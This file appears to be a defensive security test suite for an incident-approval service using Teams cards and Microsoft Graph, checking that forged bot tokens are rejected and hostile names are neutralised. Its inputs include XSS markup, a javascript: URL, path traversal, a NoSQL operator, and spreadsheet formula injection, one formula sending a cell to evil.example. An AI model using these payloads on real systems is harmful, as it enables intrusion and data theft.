import { readFile } from 'node:fs/promises';
import https from 'node:https';
import path from 'node:path';
import { verifyRecordFile } from '../../local/commands/verify-record.js';
import type { Ledger } from '../../shared/domain/approval/approval.js';
import { cardProblems } from '../support/adaptive-card-rules.js';
import { untilQuiet } from '../support/every-door.js';
import { onWire } from '../support/wire.js';
import { scenarioFacts, writesOf } from '../support/tenant-truth.js';
import { startWorld, type World } from '../support/world.js';

const markup = '</td></tr><img src=x onerror=alert(1)><script>alert(2)</script>';
/** What an attacker writes into names, knowing where they will be shown. */
const names = [
  `${markup}[click](https://evil.example)`,
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "+1+cmd|'/c calc'!A0",
  '@SUM(1+1)*cmd',
  'line one\r\n\r\n# Approved by everyone\r\n=1+1',
  '\u202Egnp.exe\u2066\u200B\u0000admin',
  'a,"b";\tc\u2028d',
  `{{Expand}} \${env} %s ${'\u{1F4A3}'.repeat(40)}`,
];

let world: World;
let id: string;
let damaged: readonly string[];

beforeAll(async () => {
  world = await startWorld({
    policy: ({ approvals = {} }) => Object.assign(approvals, { remindEveryMinutes: 60 }),
  });
  damaged = scenarioFacts({ scenario: 'bulk-disable', users: 48 })['damaged'] ?? [];
  await renameDamaged();
  const { body } = await world.control('/alert');
  const alert = body as { object: { properties: Record<string, unknown> } };
  Object.assign(alert.object.properties, {
    title: `${names.join(' ')}${'A'.repeat(10_000)}`,
    description: markup,
    labels: names.map((labelName) => ({ labelName, labelType: 'User' })),
    incidentUrl: 'javascript:alert(1)',
  });
  const key = await readFile(path.join(world.dataDir, 'app/keys.json'), 'utf8');
  const opened = await world.api('/alerts/sentinel', {
    body: alert,
    headers: { 'x-functions-key': (JSON.parse(key) as { default: string }).default },
  });
  id = (opened.body as { incidentId: string }).incidentId;
  await world.until(id, 'the plan waits for approval', (i) => i.state === 'awaitingApproval');
  await untilQuiet(world);
}, 120_000);
afterAll(() => world.stop());

async function decisions(): Promise<Ledger['decisions']> {
  const file = path.join(world.dataDir, 'app/evidence/incidents', id, 'approvals.json');
  return (JSON.parse(await readFile(file, 'utf8')) as Ledger).decisions;
}

/** Fails when the attack was counted as a decision or changed the tenant. */
async function uncounted<T>(attack: () => Promise<T>): Promise<T> {
  const before = (await writesOf(world)).length;
  const answer = await attack();
  expect(await decisions()).toEqual([]);
  expect((await writesOf(world)).length).toBe(before);
  expect((await world.incident(id)).state).toBe('awaitingApproval');
  return answer;
}

async function forged(kind: string, more: object = {}) {
  const { body } = await world.control('/forge', {
    door: 'teams',
    kind,
    incidentId: id,
    deliver: true,
    ...more,
  });
  return body as { status: number; answer: { statusCode?: number; value?: { code?: string } } };
}

describe('a forged press on the card', () => {
  it.each([
    'algNone',
    'publicKeyAsSecret',
    'expired',
    'notYetValid',
    'noExpiry',
    'wrongAudience',
    'wrongIssuer',
    'missingEndorsement',
    'noEndorsements',
    'wrongServiceUrl',
    'noServiceUrl',
    'unpublishedKey',
    'unknownKeyId',
    'entraToken',
    'foreignServiceUrl',
    'otherChannel',
  ])('under a token that is %s is 401 and nothing more', async (kind) => {
    const got = await uncounted(() => forged(kind));

    expect(got).toMatchObject({ status: 401, answer: { code: 'UNAUTHENTICATED' } });
    expect(got.answer).toMatchObject({ detail: 'A valid token is needed.' });
  });

  it.each([
    ['otherTenant', 'NOT_PERMITTED'],
    ['otherChannelTenant', 'NOT_PERMITTED'],
    ['foreignConversation', 'NOT_PERMITTED'],
    ['wrongReplyTo', 'NOT_PERMITTED'],
    ['noObjectId', 'NOT_PERMITTED'],
    ['unknownPerson', 'DECIDER_NOT_PINNED'],
  ])('with %s is told %s in the form of the channel', async (kind, code) => {
    const got = await uncounted(() => forged(kind));

    expect(got).toMatchObject({
      status: 200,
      answer: { statusCode: 400, type: 'application/vnd.microsoft.error', value: { code } },
    });
  });

  it.each([
    ['actor', 'DECIDER_IS_ACTOR'],
    ['outsider', 'DECIDER_NOT_PINNED'],
    ['commander', 'DECIDER_NOT_PINNED'],
    ['breakGlass1', 'DECIDER_NOT_PINNED'],
  ])('of %s on the genuine card is told %s', async (person, code) => {
    const got = await uncounted(() => forged('genuine', { person }));

    expect(got.answer).toMatchObject({ statusCode: 400, value: { code } });
  });

  it('by a client that refreshes by itself shows the card and decides nothing', async () => {
    const got = await uncounted(() => forged('automatic'));

    expect(got.answer).toMatchObject({ statusCode: 200 });
  });

  it.each<readonly [string, object, string]>([
    ['a nonce of its own', { nonce: 'guessed' }, 'PLAN_SUPERSEDED'],
    ['another version', { planVersion: 2 }, 'PLAN_SUPERSEDED'],
    ['another digest', { planDigest: `sha256:${'0'.repeat(64)}` }, 'PLAN_SUPERSEDED'],
    ['a path for an incident', { incidentId: '../../keys' }, 'INCIDENT_NOT_FOUND'],
    ['an object for an incident', { incidentId: { $ne: '' } }, 'VALIDATION_FAILED'],
    ['10,000 characters for an incident', { incidentId: 'a'.repeat(10_000) }, 'VALIDATION_FAILED'],
    ['a fraction for a version', { planVersion: 1.5 }, 'VALIDATION_FAILED'],
  ])('whose data names %s is told %j', async (_, change, code) => {
    const press = await genuinePress();
    const { action } = press.activity.value;
    const value = {
      ...press.activity.value,
      action: { ...action, data: { ...action.data, ...change } },
    };

    const got = await uncounted(() => deliver(press.token, { ...press.activity, value }));

    expect(got).toMatchObject({ status: 200 });
    expect(JSON.parse(got.text)).toMatchObject({ statusCode: 400, value: { code } });
  });

  it.each<readonly [string, string]>([
    ['cut off', '{"type":"invoke"'],
    ['a list', '[]'],
    ['10,000 deep', `${'{"value":'.repeat(10_000)}1${'}'.repeat(10_000)}`],
    ['the service twice', '{"type":"invoke","serviceUrl":"https://a","serviceUrl":"https://b"}'],
  ])('in a body that is %s is 401: no token can be for it', async (_, body) => {
    const { token } = await genuinePress();

    const got = await uncounted(() => deliver(token, body));

    expect(got.status).toBe(401);
    expect(got.headers['content-type']).toBe('application/problem+json');
  });
});

describe('names as weapons', () => {
  it('the incident keeps the title in one bounded line', async () => {
    const { title, labels } = await world.incident(id);

    expect(title.length).toBeLessThanOrEqual(200);
    expect(title).not.toMatch(/\p{Cc}/u);
    expect(labels.length).toBe(names.length);
    for (const label of labels) expect(Array.from(label).length).toBeLessThanOrEqual(100);
  });

  it('the card stays a card of ours: valid, small, its data and links untouched', async () => {
    const { body } = await world.control('/cards');
    const [posted] = (body as { cards: { activity: { attachments: { content: unknown }[] } }[] })
      .cards;
    const card = posted?.activity.attachments[0]?.content;
    const text = JSON.stringify(card);

    expect(cardProblems(card)).toEqual([]);
    expect(text).not.toMatch(/\]\(https:\/\/evil/);
    expect(text).not.toMatch(/javascript:/);
    expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B]/);
    expect(text).toContain(id);
  });

  it('the table runs nothing in a spreadsheet, and every object is one row', async () => {
    const { body, status } = await world.api(`/incidents/${id}/plan?format=csv`, { as: 'reader' });
    const rows = String(body)
      .replace(/^\ufeff/, '')
      .trimEnd()
      .split('\r\n')
      .slice(1);

    expect(status).toBe(200);
    expect(rows.map((row) => row.slice(0, 36)).filter((one) => damaged.includes(one)).length).toBe(
      rows.length,
    );
    expect(new Set(rows.map((row) => row.slice(0, 36))).size).toBe(48);
    for (const cell of rows.flatMap(cellsOf)) {
      expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(cell).not.toContain('\0');
      expect(cell).not.toMatch(/[\r\n\u202E\u2066\u200B\u2028]/);
      expect(cell).not.toContain('\0');
    }
    // The names are in it: it was not passed by leaving them out.
    expect(rows.some((row) => row.includes("'=HYPERLINK"))).toBe(true);
  });

  it('a search for a name is a search for text', async () => {
    for (const q of ['.*', '=HYPER', '<script', '%', '[', '\\', '(a+)+$']) {
      const { status, body } = await world.api(`/incidents/${id}/plan?q=${encodeURIComponent(q)}`, {
        as: 'reader',
      });
      const { items } = body as { items: { displayName: string }[] };

      expect(status).toBe(200);
      for (const { displayName } of items)
        expect(displayName.toLowerCase()).toContain(q.toLowerCase());
    }
  });

  it.each(names)('the note %j is kept as it is and shown as text', async (text) => {
    const { status } = await world.api(`/incidents/${id}/notes`, {
      as: 'responder',
      body: { text },
    });

    expect(status).toBe(201);
  });

  it('a note of 10,000 characters is refused', async () => {
    const { status, body } = await world.api(`/incidents/${id}/notes`, {
      as: 'responder',
      body: { text: 'n'.repeat(10_000) },
    });

    expect({ status, body }).toMatchObject({ status: 422, body: { errors: [{ path: 'text' }] } });
  });

  it('the report shows all of it and runs none of it', async () => {
    const page = await reportAs('html');
    const markdown = await reportAs('md');

    expect(page.headers['content-security-policy']).toContain("default-src 'none'");
    expect(page.headers['x-content-type-options']).toBe('nosniff');
    expect(page.text).not.toMatch(/<(script|img|iframe|object|embed|form|a|link)\b/i);
    expect(page.text).not.toMatch(/<[^>]*\s(href|src|on[a-z]+)=/i);
    expect(page.text).not.toContain('\0');
    expect(page.text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B]/);
    expect(page.text).not.toContain('\0');
    expect(page.text).toContain('&lt;img src=x onerror=alert(1)&gt;');
    // What people noted is never folded away as more of the same.
    expect(page.text.match(/<bdi>note<\/bdi>/g)).toHaveLength(names.length);
    expect(markdown.headers['content-type']).toMatch(/^text\/markdown/);
    expect(markdown.text).not.toMatch(/^# Approved/m);
    expect(markdown.text).not.toMatch(/^\s*=1\+1/m);
  });

  it('the plan still recovers, nobody is renamed, and the record verifies', async () => {
    await world.press('operator', 'approve', id);
    await world.press('approver', 'approve', id);
    const closed = await world.until(id, 'the incident closes', (i) => i.state === 'closed');
    const writes = (await writesOf(world)).filter(({ property }) => property === 'displayName');
    const { intact, text } = await verifyRecordFile(closed.links['record'] ?? '', null);

    expect(closed).toMatchObject({ outcome: 'recovered', verification: { verified: 48 } });
    expect(writes).toHaveLength(names.length);
    expect({ intact, text }).toEqual({
      intact: true,
      text: expect.stringMatching(/^intact: .* artefacts checked/),
    });
  });
});

const cellsOf = (row: string): string[] =>
  [...row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );

interface Press {
  readonly token: string;
  readonly activity: {
    readonly value: { readonly action: { readonly data: Record<string, unknown> } };
  };
}

const genuinePress = async (): Promise<Press> =>
  (await world.control('/forge', { door: 'teams', kind: 'genuine', incidentId: id })).body as Press;

const deliver = (token: string, activity: unknown) =>
  onWire(world.appUrl, '/api/teams/messages', {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: typeof activity === 'string' ? activity : JSON.stringify(activity),
  });

async function reportAs(format: 'html' | 'md') {
  const authorization = `Bearer ${await world.tokenOf('reader')}`;
  return onWire(world.appUrl, `/api/incidents/${id}/report?format=${format}`, {
    headers: { authorization },
  });
}

/** As another application of the tenant would: these writes are not the actor's. */
async function renameDamaged(): Promise<void> {
  const { settings } = world;
  const identity = `${settings['IDENTITY_ENDPOINT']}?api-version=2019-08-01&resource=${settings['GRAPH_ENDPOINT']}&client_id=${settings['AZURE_CLIENT_ID']}`;
  const issued = await fetch(identity, {
    headers: { 'x-identity-header': settings['IDENTITY_HEADER'] ?? '' },
  });
  const { access_token: token } = (await issued.json()) as { access_token: string };
  const ca = await readFile(settings['NODE_EXTRA_CA_CERTS'] ?? '');
  for (const [index, displayName] of names.entries()) {
    const status = await new Promise((resolve, reject) => {
      const request = https.request(
        `${settings['GRAPH_ENDPOINT']}/v1.0/users/${damaged[index]}`,
        {
          ca,
          method: 'PATCH',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        },
        (response) => resolve(response.resume().statusCode),
      );
      request.on('error', reject);
      request.end(JSON.stringify({ displayName: displayName.slice(0, 256) }));
    });
    expect(status).toBe(204);
  }
}
